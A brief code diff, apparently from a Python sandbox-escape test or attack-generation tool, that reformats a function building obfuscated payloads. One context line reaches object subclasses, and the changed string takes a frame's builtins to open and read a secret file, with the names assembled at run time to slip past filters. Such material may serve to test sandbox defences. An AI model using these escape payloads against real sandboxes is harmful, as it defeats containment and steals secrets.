@@ -64,7 +64,9 @@ for k in r(r(r((), d + 'class' + d), d + 'base' + d), d + 'subclasses' + d)():
 
 def frame(text: str, head: str = "") -> Attack:
     """Get a frame as `f`, by names put together at run time, then read the secret with its builtins."""
-    use = f"r = getattr\nd = chr(95) * 2\n{text}\nloot = r(f, 'f' + '_builtins')['op' + 'en'](p['secret']).read()\n{LOOT}"
+    use = (
+        f"r = getattr\nd = chr(95) * 2\n{text}\nloot = r(f, 'f' + '_builtins')['op' + 'en'](p['secret']).read()\n{LOOT}"
+    )
     return Attack(body(use, head))
 
 
